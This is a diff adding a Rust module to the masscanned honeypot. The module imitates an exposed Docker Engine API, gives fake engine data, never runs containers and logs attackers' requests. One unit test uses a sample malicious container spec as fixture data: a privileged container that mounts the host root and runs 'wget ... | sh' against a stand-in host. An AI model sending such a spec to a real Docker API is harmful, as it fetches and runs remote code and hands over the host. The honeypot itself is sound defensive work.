@@ -0,0 +1,374 @@
+// This file is part of masscanned.
+// Copyright 2021 - The IVRE project
+//
+// Masscanned is free software: you can redistribute it and/or modify it
+// under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// (at your option) any later version.
+//
+// Masscanned is distributed in the hope that it will be useful, but WITHOUT
+// ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
+// or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU General Public
+// License for more details.
+//
+// You should have received a copy of the GNU General Public License
+// along with Masscanned. If not, see <http://www.gnu.org/licenses/>.
+
+use log::*;
+use serde::Deserialize;
+use serde_json::{json, Value};
+use std::io;
+
+use crate::client::ClientInfo;
+use crate::logger::{encode, Encoding, Event};
+
+/* Docker Engine API, answered instead of the HTTP persona on the
+ * configured ports: /_ping, /version and /info describe an engine with
+ * no container, and the requests that change something (e.g.,
+ * /containers/create, with its container spec) are recorded with their
+ * whole content. Paths may start with an API version (/v1.41/info).
+ **/
+#[derive(Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DockerConfig {
+    pub ports: Vec<u16>,
+    pub version: String,
+    /* x.y */
+    pub api_version: String,
+    pub min_api_version: String,
+    pub git_commit: String,
+    pub go_version: String,
+    pub kernel_version: String,
+    pub operating_system: String,
+    pub name: String,
+}
+
+impl Default for DockerConfig {
+    fn default() -> Self {
+        DockerConfig {
+            ports: vec![2375, 2376],
+            version: "24.0.7".to_string(),
+            api_version: "1.43".to_string(),
+            min_api_version: "1.12".to_string(),
+            git_commit: "311b9ff".to_string(),
+            go_version: "go1.20.10".to_string(),
+            kernel_version: "5.15.0-91-generic".to_string(),
+            operating_system: "Ubuntu 22.04.3 LTS".to_string(),
+            name: "docker01".to_string(),
+        }
+    }
+}
+
+impl DockerConfig {
+    pub fn check(&self) -> Result<(), io::Error> {
+        for v in [&self.api_version, &self.min_api_version].iter() {
+            if docker_api_version(v).is_none() {
+                return Err(io::Error::new(
+                    io::ErrorKind::InvalidData,
+                    format!("docker: invalid API version: {:?}", v),
+                ));
+            }
+        }
+        Ok(())
+    }
+}
+
+/* major and minor numbers of a x.y API version */
+fn docker_api_version(version: &str) -> Option<(u32, u32)> {
+    let (major, minor) = version.split_once('.')?;
+    Some((major.parse().ok()?, minor.parse().ok()?))
+}
+
+/* path without the API version prefix (/v1.41/info -> /info) */
+fn docker_strip_version(path: &str) -> &str {
+    if let Some(rest) = path.strip_prefix("/v") {
+        let (version, rest) = match rest.find('/') {
+            Some(i) => rest.split_at(i),
+            None => (rest, ""),
+        };
+        if docker_api_version(version).is_some() {
+            return rest;
+        }
+    }
+    path
+}
+
+/* made-up but stable ID of the engine (12 groups of 4 characters) */
+fn docker_engine_id(config: &DockerConfig) -> String {
+    let mut h: u64 = 0xcbf29ce484222325;
+    for c in config.name.bytes() {
+        h ^= c as u64;
+        h = h.wrapping_mul(0x100000001b3);
+    }
+    let chars = base64::encode_config(h.to_be_bytes().repeat(6), base64::STANDARD_NO_PAD)
+        .to_ascii_uppercase()
+        .replace(['+', '/'], "X");
+    chars.as_bytes()[..48]
+        .chunks(4)
+        .map(|c| String::from_utf8_lossy(c).to_string())
+        .collect::<Vec<String>>()
+        .join(":")
+}
+
+fn docker_version(config: &DockerConfig) -> Value {
+    json!({
+        "Platform": {"Name": "Docker Engine - Community"},
+        "Components": [{
+            "Name": "Engine",
+            "Version": config.version,
+            "Details": {
+                "ApiVersion": config.api_version,
+                "Arch": "amd64",
+                "BuildTime": "2023-10-26T09:08:02.000000000+00:00",
+                "Experimental": "false",
+                "GitCommit": config.git_commit,
+                "GoVersion": config.go_version,
+                "KernelVersion": config.kernel_version,
+                "MinAPIVersion": config.min_api_version,
+                "Os": "linux",
+            },
+        }],
+        "Version": config.version,
+        "ApiVersion": config.api_version,
+        "MinAPIVersion": config.min_api_version,
+        "GitCommit": config.git_commit,
+        "GoVersion": config.go_version,
+        "Os": "linux",
+        "Arch": "amd64",
+        "KernelVersion": config.kernel_version,
+        "BuildTime": "2023-10-26T09:08:02.000000000+00:00",
+    })
+}
+
+fn docker_info(config: &DockerConfig) -> Value {
+    json!({
+        "ID": docker_engine_id(config),
+        "Containers": 0,
+        "ContainersRunning": 0,
+        "ContainersPaused": 0,
+        "ContainersStopped": 0,
+        "Images": 0,
+        "Driver": "overlay2",
+        "DriverStatus": [
+            ["Backing Filesystem", "extfs"],
+            ["Supports d_type", "true"],
+            ["Using metacopy", "false"],
+            ["Native Overlay Diff", "true"],
+            ["userxattr", "false"],
+        ],
+        "MemoryLimit": true,
+        "SwapLimit": false,
+        "CpuCfsPeriod": true,
+        "CpuCfsQuota": true,
+        "IPv4Forwarding": true,
+        "Debug": false,
+        "LoggingDriver": "json-file",
+        "CgroupDriver": "systemd",
+        "CgroupVersion": "2",
+        "KernelVersion": config.kernel_version,
+        "OperatingSystem": config.operating_system,
+        "OSVersion": "22.04",
+        "OSType": "linux",
+        "Architecture": "x86_64",
+        "IndexServerAddress": "https://index.docker.io/v1/",
+        "NCPU": 4,
+        "MemTotal": 8_331_276_288u64,
+        "DockerRootDir": "/var/lib/docker",
+        "Name": config.name,
+        "ExperimentalBuild": false,
+        "ServerVersion": config.version,
+        "Runtimes": {"io.containerd.runc.v2": {"path": "runc"}, "runc": {"path": "runc"}},
+        "DefaultRuntime": "runc",
+        "Swarm": {"LocalNodeState": "inactive", "NodeID": "", "NodeAddr": ""},
+        "LiveRestoreEnabled": false,
+        "Isolation": "",
+        "InitBinary": "docker-init",
+        "SecurityOptions": ["name=apparmor", "name=seccomp,profile=builtin", "name=cgroupns"],
+        "Warnings": ["WARNING: API is accessible on http://0.0.0.0:2375 without encryption."],
+    })
+}
+
+fn docker_message(message: &str) -> Value {
+    json!({ "message": message })
+}
+
+/* request content, as JSON when it is */
+fn docker_event(verb: &str, uri: &str, path: &str, body: &[u8], client_info: &ClientInfo) -> Event {
+    let mut event = Event::new("docker_request", client_info);
+    event.set("verb", verb);
+    event.set("uri", uri);
+    event.set("path", path);
+    if !body.is_empty() {
+        match serde_json::from_slice::<Value>(body) {
+            Ok(v) => event.set("body", v),
+            Err(_) => event.set("body", String::from_utf8_lossy(body)),
+        }
+    }
+    event
+}
+
+/* Status, headers and content of the answer to a request (path is the
+ * normalized path of uri, None if invalid). Anything but GET and HEAD
+ * requests is recorded as a docker_request event.
+ **/
+pub fn docker_page(
+    config: &DockerConfig,
+    verb: &str,
+    uri: &str,
+    path: Option<&str>,
+    body: &[u8],
+    client_info: &ClientInfo,
+) -> (String, Vec<String>, String) {
+    let path = docker_strip_version(path.unwrap_or(""));
+    let path = path.trim_end_matches('/');
+    let headers = |content_type: &str| {
+        vec![
+            format!("Api-Version: {}", config.api_version),
+            format!("Content-Type: {}", content_type),
+            "Docker-Experimental: false".to_string(),
+            "Ostype: linux".to_string(),
+            format!("Server: Docker/{} (linux)", config.version),
+        ]
+    };
+    let answer = |status: &str, v: Value| {
+        (
+            status.to_string(),
+            headers("application/json"),
+            v.to_string() + "\n",
+        )
+    };
+    if verb != "GET" && verb != "HEAD" {
+        warn!("Docker {} {}", verb, uri);
+        docker_event(verb, uri, path, body, client_info).log();
+    }
+    match (verb, path) {
+        ("GET" | "HEAD", "/_ping") => (
+            "200 OK".to_string(),
+            headers("text/plain; charset=utf-8"),
+            "OK".to_string(),
+        ),
+        ("GET" | "HEAD", "/version") => answer("200 OK", docker_version(config)),
+        ("GET" | "HEAD", "/info") => answer("200 OK", docker_info(config)),
+        ("GET" | "HEAD", "/containers/json" | "/images/json" | "/networks" | "/volumes") => {
+            answer("200 OK", json!([]))
+        }
+        ("POST", "/containers/create") => {
+            /* the container is never run */
+            let id = encode(&rand::random::<[u8; 32]>(), Encoding::Hex);
+            answer("201 Created", json!({"Id": id, "Warnings": []}))
+        }
+        ("POST", "/images/create") => answer(
+            "500 Internal Server Error",
+            docker_message(
+                "Get \"https://registry-1.docker.io/v2/\": net/http: request canceled while \
+                 waiting for connection (Client.Timeout exceeded while awaiting headers)",
+            ),
+        ),
+        (_, p) if p.starts_with("/containers/") => {
+            let id = p["/containers/".len()..].split('/').next().unwrap_or("");
+            answer(
+                "404 Not Found",
+                docker_message(&format!("No such container: {}", id)),
+            )
+        }
+        _ => answer("404 Not Found", docker_message("page not found")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn page(
+        config: &DockerConfig,
+        verb: &str,
+        uri: &str,
+        body: &[u8],
+    ) -> (String, Vec<String>, String) {
+        let path = uri.split('?').next();
+        docker_page(config, verb, uri, path, body, &ClientInfo::new())
+    }
+
+    #[test]
+    fn test_docker_paths() {
+        let config = DockerConfig::default();
+        assert!(config.check().is_ok());
+        assert!(docker_strip_version("/v1.41/containers/json") == "/containers/json");
+        assert!(docker_strip_version("/v1.24").is_empty());
+        assert!(docker_strip_version("/version") == "/version");
+        assert!(docker_strip_version("/vx.1/info") == "/vx.1/info");
+        for uri in ["/version", "/v1.41/version", "/v1.43/version/"].iter() {
+            let (status, headers, content) = page(&config, "GET", uri, b"");
+            assert!(status == "200 OK");
+            assert!(headers.contains(&"Api-Version: 1.43".to_string()));
+            assert!(headers.contains(&"Server: Docker/24.0.7 (linux)".to_string()));
+            assert!(headers.contains(&"Docker-Experimental: false".to_string()));
+            let version: Value = serde_json::from_str(&content).unwrap();
+            assert!(version["Version"] == "24.0.7");
+            assert!(version["ApiVersion"] == "1.43");
+            assert!(version["Components"][0]["Details"]["MinAPIVersion"] == "1.12");
+        }
+        let (_, _, content) = page(&config, "GET", "/v1.41/info", b"");
+        let info: Value = serde_json::from_str(&content).unwrap();
+        assert!(info["Name"] == "docker01" && info["Containers"] == 0);
+        assert!(info["ID"].as_str().unwrap().len() == 59);
+        assert!(info["ID"] == docker_engine_id(&config));
+        for uri in ["/containers/json?all=1", "/v1.41/containers/json"].iter() {
+            let (status, _, content) = page(&config, "GET", uri, b"");
+            assert!(status == "200 OK" && content == "[]\n");
+        }
+        let (_, headers, content) = page(&config, "GET", "/_ping", b"");
+        assert!(
+            content == "OK"
+                && headers.contains(&"Content-Type: text/plain; charset=utf-8".to_string())
+        );
+        let (status, _, content) = page(&config, "GET", "/v1.41/containers/abc/json", b"");
+        assert!(status == "404 Not Found" && content.contains("No such container: abc"));
+        let (status, _, _) = page(&config, "GET", "/secrets", b"");
+        assert!(status == "404 Not Found");
+        /* invalid versions */
+        for v in ["1", "1.x", ""].iter() {
+            let config = DockerConfig {
+                api_version: v.to_string(),
+                ..Default::default()
+            };
+            assert!(config.check().is_err());
+        }
+    }
+
+    #[test]
+    fn test_docker_create() {
+        let config = DockerConfig::default();
+        let spec = br#"{"Image":"alpine","Cmd":["sh","-c","wget -O- http://x/a.sh|sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}"#;
+        let (status, headers, content) =
+            page(&config, "POST", "/v1.41/containers/create?name=x", spec);
+        assert!(status == "201 Created");
+        assert!(headers.contains(&"Content-Type: application/json".to_string()));
+        let created: Value = serde_json::from_str(&content).unwrap();
+        assert!(created["Id"].as_str().unwrap().len() == 64);
+        assert!(created["Warnings"] == json!([]));
+        /* the whole spec is recorded */
+        let event = docker_event(
+            "POST",
+            "/v1.41/containers/create?name=x",
+            "/containers/create",
+            spec,
+            &ClientInfo::new(),
+        );
+        assert!(event.name == "docker_request");
+        assert!(event.fields["path"] == "/containers/create");
+        assert!(event.fields["body"]["HostConfig"]["Privileged"] == true);
+        assert!(event.fields["body"]["Cmd"][2] == "wget -O- http://x/a.sh|sh");
+        let event = docker_event("POST", "/", "/", b"not json", &ClientInfo::new());
+        assert!(event.fields["body"] == "not json");
+        /* image pulls fail */
+        let (status, _, content) = page(
+            &config,
+            "POST",
+            "/images/create?fromImage=alpine&tag=latest",
+            b"",
+        );
+        assert!(status == "500 Internal Server Error");
+        assert!(content.starts_with("{\"message\":\"Get "));
+    }
+}